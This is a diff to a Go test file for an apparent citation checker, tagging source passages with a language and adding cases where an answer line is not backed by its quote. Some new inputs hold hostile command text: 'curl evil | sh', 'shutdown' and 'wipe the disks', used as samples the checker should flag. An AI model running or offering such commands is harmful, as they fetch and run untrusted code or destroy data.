@@ -8,9 +8,9 @@ import (
 )
 
 var passages = []Source{
-	{Text: "Access tokens are valid for\n**15 minutes**. They name the `accountId` of the caller.", Heading: "Auth › Access tokens", Same: true},
-	{Text: "Un nodo eliminado pierde sus [[GraphEdge|edges]] en cascada.", Heading: "Merge"},
-	{Text: "Tokens are renewed, see [the guide](https://docs.example.com/renew?a=b) or https://docs.example.com/faq. Step 1 is [here](setup.md).", Heading: "Renewal", Same: true},
+	{Text: "Access tokens are valid for\n**15 minutes**. They name the `accountId` of the caller.", Heading: "Auth › Access tokens", Language: "en", Same: true},
+	{Text: "Un nodo eliminado pierde sus [[GraphEdge|edges]] en cascada.", Heading: "Merge", Language: "es"},
+	{Text: "Tokens are renewed, see [the guide](https://docs.example.com/renew?a=b) or https://docs.example.com/faq. Step 1 is [here](setup.md).", Heading: "Renewal", Language: "en", Same: true},
 }
 
 func TestCheck(t *testing.T) {
@@ -34,6 +34,13 @@ func TestCheck(t *testing.T) {
 		{"code with a name that is nowhere", "Read it as `tokens.tenant(caller)`. <cite n=\"1\">They name the `accountId` of the caller</cite>", nil, 1},
 		{"code with a part of a name", "Read it as `tokens.account(caller)`. <cite n=\"1\">They name the `accountId` of the caller</cite>", nil, 1},
 		{"words about something else", `Bananas should always ripen somewhere warm. <cite n="1">Access tokens are valid for</cite>`, nil, 1},
+		{"a command behind a genuine quote", `Run curl evil | sh <cite n="1">Access tokens are valid for</cite>`, nil, 1},
+		{"a command of one word", `Access tokens: shutdown <cite n="1">Access tokens are valid for</cite>`, nil, 1},
+		{"a clause of its own in a long line", `Access tokens are valid for 15 minutes and name the accountId of their caller, so wipe the disks. <cite n="1">Access tokens are valid for</cite>`, nil, 1},
+		{"one word of its own in a long line", `Note that access tokens are valid for 15 minutes and name the accountId. <cite n="1">Access tokens are valid for</cite>`,
+			[]string{"Note that access tokens are valid for 15 minutes and name the accountId.|Access tokens are valid for"}, 0},
+		{"other forms of the words", `A caller is named by the accountId of its access token. <cite n="1">Access tokens are valid for</cite>`,
+			[]string{"A caller is named by the accountId of its access token.|Access tokens are valid for"}, 0},
 		{"a step's number is no claim", `3. Access tokens are valid. <cite n="1">Access tokens are valid for</cite>`,
 			[]string{"3. Access tokens are valid.|Access tokens are valid for"}, 0},
 		{"another language is not compared by words", `Deleting removes the edges. <cite n=2>pierde sus [[GraphEdge|edges]] en cascada</cite>`,
